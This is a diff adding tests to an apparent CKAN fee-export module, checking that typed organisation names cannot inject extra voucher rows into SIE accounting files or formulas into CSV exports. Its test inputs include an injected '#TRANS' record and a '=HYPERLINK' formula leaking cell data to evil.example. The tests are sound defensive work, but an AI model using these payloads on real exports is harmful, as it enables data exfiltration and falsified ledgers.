@@ -243,3 +243,52 @@ class TestUnbilledMonths:
         call("vgsamverkan_calloff_log_time", coordinator, id=hourly["id"], date="2026-09-10", hours="1")
         page = Browser(app).get("/ckan-admin/samverkan", extra_environ=as_user(coordinator)).body
         assert 'id="vgs-unbilled"' in page and "/ckan-admin/samverkan/avgifter/2026-09" in page
+
+
+# -- text people typed never changes a file's structure (issue 36) -----------------------
+
+HOSTILE = [
+    'Härryda "C" \\ }\r\n#TRANS 1510 {} 999999.00 20250630 "injected"\r\n{',  # a voucher row of its own
+    '=HYPERLINK("http://evil.example/?leak="&C2,"Klicka")', "@SUM(1)", "+SUM(1+1)", "-1+1", "\tTabb",
+    "\rRetur", "Rad\u2028skiftad", "Nul\x00byte",
+]
+
+
+def _statement(i: int, title: str) -> dict:
+    return {"month": "2026-10", "organization_title": title, "organization_name": f"org-{i}",
+            "org_number": f"21200000{i:02d}", "invoice_reference": title, "net": "-100.00", "vat": "-25.00",
+            "total": "-125.00",
+            "lines": [{"kind": "adjustment", "text": title, "quantity": None, "unit": None, "unit_price": None,
+                       "amount": "-100.00", "reference": {"type": "adjustment", "id": title}, "details": {}}]}
+
+
+class TestTextPeopleTyped:
+    def test_the_sie_file_has_one_voucher_per_statement_whatever_the_names(self):
+        from ckanext.vgsamverkan.fees.export import to_sie
+
+        statements = [_statement(i, title) for i, title in enumerate(HOSTILE)]
+        data = to_sie("2026-10", statements, accounts=["1510", "3010", "2611"], company='Bolag "X" \\\r\n#VER',
+                      org_number="2120000142", generated="20261101")
+        sie = sie4.parse(data)  # the strict reader: every record where the specification puts it
+        assert len(sie.vouchers) == len(statements)
+        assert all(len(v.trans) == 3 for v in sie.vouchers)  # receivable, revenue, VAT: nothing injected
+        assert len(sie.objects) == len(statements)
+        assert not any(t.amount == Decimal("999999.00") for v in sie.vouchers for t in v.trans)
+        assert b"\r\n#TRANS 1510 {} 999999" not in data and data.count(b"\r\n#VER ") == len(statements)
+        first = next(v for v in sie.vouchers if "Härryda" in v.text)
+        assert '"C" \\ }' in first.text and "#TRANS 1510 {} 999999.00" in first.text  # kept, on one line
+
+    def test_the_csv_has_its_rows_and_no_cell_a_spreadsheet_reads_as_a_formula(self):
+        from ckanext.vgsamverkan.fees.export import to_csv
+
+        statements = [_statement(i, title) for i, title in enumerate(HOSTILE)]
+        rows = list(csv.DictReader(io.StringIO(to_csv(statements).decode("utf-8-sig")), delimiter=";"))
+        assert len(rows) == 2 * len(statements)  # one line row and one total row each
+        for row in rows:
+            for column in ("Organisation", "Fakturareferens", "Text", "Referens"):
+                assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r")), (column, row[column])
+        by_title = {r["Organisation"]: r for r in rows if r["Radtyp"] == "Rad"}
+        assert "'=HYPERLINK(\"http://evil.example/?leak=\"&C2,\"Klicka\")" in by_title
+        assert "'-1+1" in by_title and "'@SUM(1)" in by_title
+        assert {r["Belopp"] for r in rows if r["Radtyp"] == "Rad"} == {"-100,00"}  # numbers stay numbers
+        assert {r["Totalt"] for r in rows if r["Radtyp"] == "Summa"} == {"-125,00"}
